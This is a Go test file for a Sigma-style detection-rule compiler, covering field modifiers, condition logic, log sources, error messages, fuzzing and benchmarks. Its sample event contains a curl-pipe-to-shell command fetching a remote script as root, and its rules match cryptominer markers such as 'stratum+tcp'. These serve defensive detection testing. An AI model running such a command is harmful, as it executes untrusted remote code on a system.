package sigma

import (
	"strings"
	"testing"
)

func rule(detection string) string {
	return "title: t\nid: x-1\nlevel: high\nclass: mining\nlogsource:\n  category: process_creation\n  product: linux\ndetection:\n" + detection
}

var linux = LogSource{Category: "process_creation", Product: "linux"}

func TestDetections(t *testing.T) {
	event := Map{"Image": "/usr/bin/Curl", "CommandLine": `curl -fsSL http://10.0.0.7/a.sh | sh`, "User": "root", "Empty": "", "Ip": "10.1.2.3", "Port": "4444", "Other": "root", "B64": "xxc3RyYXR1bSt0Y3A6Lyxx"}
	for _, c := range []struct {
		det  string
		want bool
	}{
		{"  a: {Image: '/usr/bin/curl'}\n  condition: a", true},
		{"  a: {Image|cased: '/usr/bin/curl'}\n  condition: a", false},
		{"  a: {Image|endswith: ['/wget', '/curl']}\n  condition: a", true},
		{"  a: {Image|startswith: '/usr', User: root}\n  condition: a", true},
		{"  a: {Image|startswith: '/usr', User: anna}\n  condition: a", false},
		{"  a: {CommandLine|contains|all: ['http', 'sh']}\n  condition: a", true},
		{"  a: {CommandLine|contains|all: ['http', 'nope']}\n  condition: a", false},
		{"  a: {CommandLine: '*http*|*'}\n  condition: a", true},
		{"  a: {CommandLine: 'curl*sh'}\n  condition: a", true},
		{"  a: {CommandLine: 'curl*nope*sh'}\n  condition: a", false},
		{"  a: {CommandLine: 'curl ?fsSL*'}\n  condition: a", true},
		{"  a: {CommandLine|re: 'a\\.sh \\|'}\n  condition: a", true},
		{"  a: {CommandLine|re: 'CURL'}\n  condition: a", false},
		{"  a: {CommandLine|re|i: 'CURL'}\n  condition: a", true},
		{"  a: {Missing: null}\n  condition: a", true},
		{"  a: {Empty: null}\n  condition: a", true},
		{"  a: {User: null}\n  condition: a", false},
		{"  a: {User|exists: true}\n  condition: a", true},
		{"  a: {Missing|exists: false}\n  condition: a", true},
		{"  a: {User|fieldref: Other}\n  condition: a", true},
		{"  a: {Ip|cidr: '10.0.0.0/8'}\n  condition: a", true},
		{"  a: {Ip|cidr: '192.168.0.0/16'}\n  condition: a", false},
		{"  a: {Port|gte: 4444}\n  condition: a", true},
		{"  a: {Port|lt: 100}\n  condition: a", false},
		{"  a: {User|neq: root}\n  condition: a", false},
		{"  a: {CommandLine|windash|contains: ' /fsSL'}\n  condition: a", true},
		{"  a: {B64|base64offset|contains: 'stratum+tcp:/'}\n  condition: a", true},
		{"  a: {Missing: x}\n  condition: not a", true},
		{"  keys: ['A.SH', nope]\n  condition: keys", true},
		{"  keys: [nope]\n  condition: keys", false},
		{"  a:\n    - {User: anna}\n    - {User: root}\n  condition: a", true},
		{"  x1: {User: root}\n  x2: {User: anna}\n  condition: 1 of x*", true},
		{"  x1: {User: root}\n  x2: {User: anna}\n  condition: all of x*", false},
		{"  x1: {User: root}\n  x2: {Port: 4444}\n  condition: all of them", true},
		{"  x1: {User: root}\n  x2: {Port: 1}\n  x3: {Ip: '10.*'}\n  condition: 2 of x*", true},
		{"  a: {User: root}\n  f: {Port: 4444}\n  condition: a and not f", false},
		{"  a: {User: anna}\n  b: {User: root}\n  c: {Port: 1}\n  condition: a or b and not (c or a)", true},
		{"  a: {User: anna}\n  b: {User: root}\n  condition: [a, b]", true},
		{"  a: {CommandLine|contains: '\\*'}\n  condition: a", false},
	} {
		rs, err := Compile(Source{Name: "t.yml", Text: rule(c.det)})
		if err != nil {
			t.Errorf("%s: %v", c.det, err)
			continue
		}
		if got := len(rs.Match(linux, event)) == 1; got != c.want {
			t.Errorf("%s: %v, want %v", c.det, got, c.want)
		}
	}
}

func TestLogSources(t *testing.T) {
	text := strings.Replace(rule("  a: {User: root}\n  condition: a"), "  category: process_creation\n", "", 1)
	rs, err := Compile(Source{Name: "t", Text: text})
	if err != nil {
		t.Fatal(err)
	}
	for src, want := range map[LogSource]int{
		{Category: "process_creation", Product: "linux"}: 1, {Product: "linux", Service: "sshd"}: 1, {Product: "windows"}: 0, {}: 0, {Category: "file_event", Product: "linux", Service: "x"}: 1,
	} {
		if got := len(rs.Match(src, Map{"User": "root"})); got != want {
			t.Errorf("%+v: %d rules, want %d", src, got, want)
		}
	}
	if r := rs.List()[0]; r.ID != "x-1" || r.Custom["class"] != "mining" || r.Line != 1 {
		t.Errorf("rule %+v", r)
	}
}

func TestFaultsArePlaced(t *testing.T) {
	for text, want := range map[string]string{
		"title: [":                                        "t.yml:1:",
		"title: t\n":                                      "t.yml:1:1: rule \"t\": a rule needs a detection",
		"logsource: {}\ndetection: {}":                    "t.yml:1:1: a rule needs a title",
		rule("  a: {X|what: 1}\n  condition: a"):          `t.yml:9:7: rule "t": unknown modifier "what"`,
		rule("  a: {X: 1}\n  condition: b"):               `t.yml:10:14: rule "t": condition: undefined selection "b"`,
		rule("  a: {X: 1}\n  condition: a and"):           `t.yml:10:14: rule "t": condition: ends too early`,
		rule("  a: {X: 1}\n  condition: (a"):              `t.yml:10:14: rule "t": condition: a parenthesis is not closed`,
		rule("  a: {X|re: '('}\n  condition: a"):          `t.yml:9:13: rule "t": field "X|re": error parsing regexp`,
		rule("  a: {X: 1}\n  condition: a | count() > 3"): `t.yml:10:14: rule "t": condition: unexpected "|"`,
		"title: c\ncorrelation: {}\n":                     `t.yml:2:1: rule "c": correlation is not supported`,
	} {
		_, err := Compile(Source{Name: "t.yml", Text: text})
		if err == nil || !strings.HasPrefix(err.Error(), want) {
			t.Errorf("%q: %v, want %s", text, err, want)
		}
	}
	two := rule("  a: {X|what: 1}\n  condition: a") + "\n---\n" + rule("  a: {X: 1}\n  condition: zz")
	_, err := Compile(Source{Name: "t.yml", Text: two})
	if err == nil || strings.Count(err.Error(), "\n") != 1 {
		t.Errorf("both broken rules are not named: %v", err)
	}
	deep := rule("  a: {X: 1}\n  condition: " + strings.Repeat("(", 50000) + "a")
	if _, err := Compile(Source{Name: "t.yml", Text: deep}); err == nil {
		t.Error("deep nesting compiles")
	}
}

func FuzzCompile(f *testing.F) {
	f.Add(rule("  a: {X|contains|all: [1, '*y?']}\n  k: [z]\n  condition: 1 of a* and not k"))
	f.Add(rule("  a: {X|re|i: 'a+', Y|base64offset|contains: abc, Z|cidr: 10.0.0.0/8}\n  condition: all of them"))
	f.Fuzz(func(t *testing.T, text string) {
		rs, err := Compile(Source{Name: "f", Text: text})
		if err == nil {
			rs.Match(linux, Map{"X": "1y2", "Y": "b", "Z": "10.1.1.1"})
		}
	})
}

func BenchmarkMatch(b *testing.B) {
	var src []Source
	for i := 0; i < 50; i++ {
		src = append(src, Source{Name: "t", Text: rule("  a: {CommandLine|contains: ['stratum+tcp', 'donate-level', '--rig-id'], Image|endswith: ['/x', '/y']}\n  condition: a")})
	}
	rs, err := Compile(src...)
	if err != nil {
		b.Fatal(err)
	}
	ev := Map{"Image": "/usr/bin/python3", "CommandLine": "/usr/bin/python3 /srv/app/manage.py runserver --port 8000", "User": "www"}
	for b.Loop() {
		rs.Match(linux, ev)
	}
}
